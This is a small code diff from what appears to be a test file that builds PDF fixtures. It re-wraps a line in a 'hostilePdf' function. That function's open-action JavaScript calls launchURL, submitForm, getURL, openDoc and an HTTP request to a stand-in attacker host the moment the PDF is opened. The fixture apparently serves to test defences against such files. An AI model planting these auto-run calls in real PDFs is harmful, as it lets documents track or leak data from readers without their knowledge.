@@ -51,7 +51,8 @@ const plainPdf = () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pa
 /** A PDF that does what PDFs can do by themselves, as soon as it is opened. */
 function hostilePdf(evil, door) {
   const script = [`app.launchURL("${evil}/launch", true)`,
-    `this.submitForm({ cURL: "${evil}/submit", cSubmitAs: "HTML" })`, `this.submitForm("${door}")`, `this.getURL("${evil}/get")`, `app.openDoc("${evil}/doc")`,
+    `this.submitForm({ cURL: "${evil}/submit", cSubmitAs: "HTML" })`, `this.submitForm("${door}")`,
+    `this.getURL("${evil}/get")`, `app.openDoc("${evil}/doc")`,
     `Net.HTTP.request({ cVerb: "GET", cURL: "${evil}/net" })`].map((one) => `try { ${one} } catch (e) {}`).join(' ');
   return pdfOf([
     '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [7 0 R] >> >>',
